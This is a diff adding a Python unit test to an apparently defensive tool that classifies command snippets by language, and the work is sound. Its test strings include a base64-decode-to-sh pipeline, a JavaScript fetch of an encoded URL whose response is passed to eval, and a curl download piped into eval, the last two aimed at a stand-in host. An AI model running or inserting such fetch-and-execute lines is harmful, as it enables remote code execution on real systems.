@@ -241,3 +241,9 @@ def test_dotnet_base64_is_no_sign_of_the_base64_program() -> None:
     assert languages(dotnet.lower()) == ["powershell"]
     assert "posix" in languages("echo aXdy | base64 -d | sh")
     assert "posix" in languages(f"echo aXdy | base64 -d | sh; {dotnet}".lower())
+
+
+def test_javascripts_eval_call_is_no_sign_of_a_shell() -> None:
+    js = "fetch(atob('aHR0cHM6Ly9hLnRlc3QvcC5qcw==')).then(r=>r.text()).then(t=>eval(t))"
+    assert languages(js.lower()) == ["javascript"]
+    assert "posix" in languages('eval "$(curl -fsSL https://a.test/x)"')
